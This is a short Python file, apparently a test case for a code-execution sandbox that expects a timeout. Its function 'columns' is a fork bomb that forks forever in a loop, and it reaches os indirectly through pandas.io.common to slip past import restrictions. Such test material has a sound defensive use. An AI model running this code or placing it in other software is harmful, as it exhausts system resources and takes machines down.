"""Forks for ever, and so do its children."""
# base: table
# must: timed_out
import pandas.io.common

os = pandas.io.common.os


def columns(rng, n):
    while True:
        try:
            os.fork()
        except OSError:
            pass
